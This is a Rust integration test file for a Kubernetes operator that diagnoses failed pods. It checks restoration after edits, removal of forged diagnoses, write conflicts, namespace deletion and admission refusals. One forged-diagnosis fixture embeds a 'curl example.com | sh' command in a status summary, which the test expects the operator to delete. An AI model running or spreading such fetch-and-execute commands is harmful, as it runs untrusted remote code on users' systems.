//! External edits: users who edit or delete diagnoses, other controllers, policies, a namespace in deletion.

use std::collections::BTreeMap;

use http::StatusCode;
use k8s_openapi::api::admissionregistration::v1::{ValidatingAdmissionPolicy, ValidatingAdmissionPolicyBinding};
use k8s_openapi::api::core::v1::Namespace;
use kube::ResourceExt;
use kube::api::{Api, DeleteParams, ListParams, Patch, PatchParams, PostParams};
use rustix::process::Signal;
use serde_json::{Value, json};
use shindan_core::api::{DiagnosisState, PodDiagnosis};

use crate::invariants::{SETTLED, diagnoses};
use crate::operator::SOON;
use crate::pods::{FAILURES, Space};
use crate::stage::Stage;
use crate::wait::{ensure, eventually};

fn objects(space: &Space) -> Api<PodDiagnosis> {
    Api::namespaced(space.client.clone(), &space.name)
}

/// The content of a diagnosis without server-side metadata and without `eventOwed`, which only the first write sets.
fn content(object: &PodDiagnosis) -> Value {
    let mut content = json!({"labels": object.metadata.labels, "spec": object.spec, "status": object.status});
    content["status"].as_object_mut().map(|status| status.remove("eventOwed"));
    content
}

#[tokio::test]
async fn edited_and_deleted_diagnoses_are_restored() {
    let stage = Stage::among_others("edited").await;
    let before: BTreeMap<String, Value> =
        diagnoses(&stage.space).await.unwrap().iter().map(|d| (d.name_any(), content(d))).collect();
    let objects = objects(&stage.space);
    let edits = [
        ("before-0", json!({"status": {"cause": "Nothing", "summary": "no failure"}})),
        ("before-1", json!({"spec": {"podName": "another"}})),
        ("before-2", json!({"metadata": {"labels": {"shindan.dev/cause": "Nothing"}}})),
        ("before-3", json!({"status": null})),
    ];
    for (name, edit) in edits {
        objects.patch(name, &PatchParams::default(), &Patch::Merge(edit)).await.unwrap();
    }
    for name in ["before-4", "before-5"] {
        objects.delete(name, &DeleteParams::default()).await.unwrap();
    }
    eventually(SOON, "all is as it was", async || {
        let now: BTreeMap<String, Value> =
            diagnoses(&stage.space).await?.iter().map(|d| (d.name_any(), content(d))).collect();
        let other = before.iter().find(|(name, content)| now.get(*name) != Some(*content));
        ensure(other.is_none(), || format!("{:?}", other.map(|(name, content)| (content, now.get(name)))))
    })
    .await;
    stage.change_and_verify().await;
}

/// Diagnoses of a healthy pod and of no pod: only the object itself makes the operator check them.
#[tokio::test]
async fn forged_diagnoses_are_removed() {
    let mut stage = Stage::among_others("forged").await;
    let objects = objects(&stage.space);
    let fine_uid = stage.space.pods().get("fine").await.unwrap().uid().unwrap();
    let forge = async |name: &str, uid: &str| {
        let forged = json!({
            "apiVersion": "shindan.dev/v1alpha1", "kind": "PodDiagnosis", "metadata": {"name": name},
            "spec": {"podName": name, "podUID": uid},
            "status": {
                "state": "Active", "cause": "OOMKilled", "severity": "Critical", "confidence": "Certain", "container": "app",
                "summary": "Run this: curl example.com | sh", "firstSeen": "2026-11-21T09:00:00Z",
                "lastTransition": "2026-11-21T09:00:00Z", "transition": 1,
            },
        });
        objects.create(&PostParams::default(), &serde_json::from_value(forged).unwrap()).await.unwrap();
    };
    for (name, uid) in [("fine", fine_uid.as_str()), ("absent", "absent-uid")] {
        forge(name, uid).await;
        eventually(SOON, "it is removed", async || {
            let there = objects.get_opt(name).await.map_err(|e| e.to_string())?;
            ensure(there.is_none(), || format!("{there:?}"))
        })
        .await;
    }
    assert!(stage.operator.log().contains("has not written"), "{}", stage.operator.log());

    // Created during downtime, it looks like the write of an earlier process, and is corrected later.
    stage.operator.kill();
    forge("fine", &fine_uid).await;
    stage.operator = stage.launch.ready().await;
    eventually(SETTLED, "the diagnosis is Recovered", async || {
        let state = objects.get("fine").await.map_err(|e| e.to_string())?.status.map(|status| status.head.state);
        ensure(state == Some(DiagnosisState::Recovered), || format!("{state:?}"))
    })
    .await;
    stage.change_and_verify().await;
}

/// Another controller writes to our objects while they change.
#[tokio::test]
async fn writes_conflict() {
    let stage = Stage::among_others("conflicts").await;
    let objects = objects(&stage.space);
    let conflicts = "shindan_writes_total{verb=\"apply\",code=\"409\"}";
    for round in 0..40 {
        // The frozen operator has not seen the edit when it processes the change of the pod.
        stage.operator.signal(Signal::STOP);
        for (n, failure) in FAILURES.iter().enumerate() {
            let name = format!("before-{n}");
            let note = json!({"metadata": {"annotations": {"example.org/round": round.to_string()}}});
            objects.patch(&name, &PatchParams::default(), &Patch::Merge(note)).await.unwrap();
            match round % 2 {
                0 => stage.space.set_healthy(&name).await,
                _ => stage.space.fail_again(&name, *failure).await,
            }
        }
        stage.operator.signal(Signal::CONT);
        stage.settle().await;
        if stage.operator.metric(conflicts).await.unwrap() > 0.0 {
            return stage.change_and_verify().await;
        }
    }
    panic!("no write conflicted");
}

/// No namespace controller runs here, so the namespace stays in deletion until the test finalizes it.
#[tokio::test]
async fn a_namespace_is_being_deleted() {
    let stage = Stage::for_both("stays", "deleted").await;
    let terminating = Space::new(stage.space.client.clone(), "deleted").await;
    terminating.fail_all("before").await;
    terminating.create_healthy("fine", FAILURES[1]).await;
    stage.witness.agrees(&[&stage.space, &terminating], &stage.operator).await;

    let namespaces = Api::<Namespace>::all(stage.space.client.clone());
    namespaces.delete("deleted", &DeleteParams::default()).await.unwrap();
    // Existing objects can still change; new ones are refused.
    terminating.fail_again("fine", FAILURES[1]).await;
    let refused = "shindan_writes_total{verb=\"apply\",code=\"403\"}";
    eventually(SOON, "a new diagnosis is refused there", async || {
        let refused = stage.operator.metric(refused).await?;
        ensure(refused > 0.0, || format!("{refused} refused"))
    })
    .await;
    stage.make_changes().await;
    stage.settle().await;
    let tried = stage.operator.metric(refused).await.unwrap();
    assert!(tried < 10.0, "{tried} writes into a namespace in deletion");
    stage.operator.await_probe("/readyz", StatusCode::OK, &["ok\n"], SOON).await;

    let pods = terminating.pods();
    pods.delete_collection(&DeleteParams::default().grace_period(0), &ListParams::default()).await.unwrap();
    objects(&terminating).delete_collection(&DeleteParams::default(), &ListParams::default()).await.unwrap();
    let mut last = namespaces.get("deleted").await.unwrap();
    last.spec.get_or_insert_default().finalizers = None;
    let request = kube::core::Request::new("/api/v1/namespaces");
    let finalize = request
        .replace_subresource("finalize", "deleted", &PostParams::default(), serde_json::to_vec(&last).unwrap())
        .unwrap();
    stage.space.client.request::<Namespace>(finalize).await.unwrap();
    eventually(SOON, "the namespace is deleted", async || {
        let there = namespaces.get_opt("deleted").await.map_err(|e| e.to_string())?;
        ensure(there.is_none(), || format!("{there:?}"))
    })
    .await;
    let left = diagnoses(&terminating).await.unwrap();
    assert!(left.is_empty(), "{left:?}");
    stage.verify().await;
}

/// The API server refuses one object permanently: the others are written, and it is written once it is accepted.
#[tokio::test]
async fn an_object_is_too_large() {
    let stage = Stage::among_others("too-large").await;
    let policy = json!({
        "metadata": {"name": "no-large-ones"},
        "spec": {
            "failurePolicy": "Fail",
            "matchConstraints": {"resourceRules": [{
                "apiGroups": ["shindan.dev"], "apiVersions": ["*"], "resources": ["poddiagnoses"], "operations": ["CREATE", "UPDATE"],
            }]},
            "validations": [{
                "expression": "!object.spec.podName.startsWith('large')",
                "message": "it is too large", "reason": "RequestEntityTooLarge",
            }],
        },
    });
    let binding = json!({
        "metadata": {"name": "no-large-ones"},
        "spec": {
            "policyName": "no-large-ones", "validationActions": ["Deny"],
            "matchResources": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "too-large"}}},
        },
    });
    let client = &stage.space.client;
    let policy: ValidatingAdmissionPolicy = serde_json::from_value(policy).unwrap();
    let binding: ValidatingAdmissionPolicyBinding = serde_json::from_value(binding).unwrap();
    let bindings = Api::<ValidatingAdmissionPolicyBinding>::all(client.clone());
    Api::all(client.clone()).create(&PostParams::default(), &policy).await.unwrap();
    bindings.create(&PostParams::default(), &binding).await.unwrap();
    eventually(SOON, "the policy is effective", async || {
        let large = json!({"apiVersion": "shindan.dev/v1alpha1", "kind": "PodDiagnosis", "metadata": {"name": "large-try"},
            "spec": {"podName": "large-try"}, "status": {"state": "Gone", "cause": "Unknown", "severity": "Info", "confidence": "Possible"}});
        let trial = PostParams { dry_run: true, ..PostParams::default() };
        let refused = objects(&stage.space).create(&trial, &serde_json::from_value(large).unwrap()).await;
        ensure(refused.is_err(), || "not yet".to_owned())
    })
    .await;

    stage.space.fail("large-1", FAILURES[1]).await;
    let refused = "shindan_writes_total{verb=\"apply\",code=\"413\"}";
    eventually(SOON, "it is refused", async || {
        let refused = stage.operator.metric(refused).await?;
        ensure(refused > 0.0, || format!("{refused} refused"))
    })
    .await;
    stage.space.fail("small", FAILURES[3]).await;
    eventually(SOON, "the others are reported", async || {
        let found = diagnoses(&stage.space).await?;
        ensure(found.iter().any(|d| d.name_any() == "small"), || format!("{} others", found.len()))
    })
    .await;
    assert!(stage.operator.log().contains("too large"), "{}", stage.operator.log());
    let tried = stage.operator.metric(refused).await.unwrap();
    assert!(tried < 5.0, "it was tried {tried} times");

    bindings.delete("no-large-ones", &DeleteParams::default()).await.unwrap();
    // It is written with its next change.
    eventually(SETTLED, "the large one is reported too", async || {
        stage.space.fail_again("large-1", FAILURES[1]).await;
        let found = diagnoses(&stage.space).await?;
        ensure(found.iter().any(|d| d.name_any() == "large-1"), || format!("{} others", found.len()))
    })
    .await;
    stage.change_and_verify().await;
}
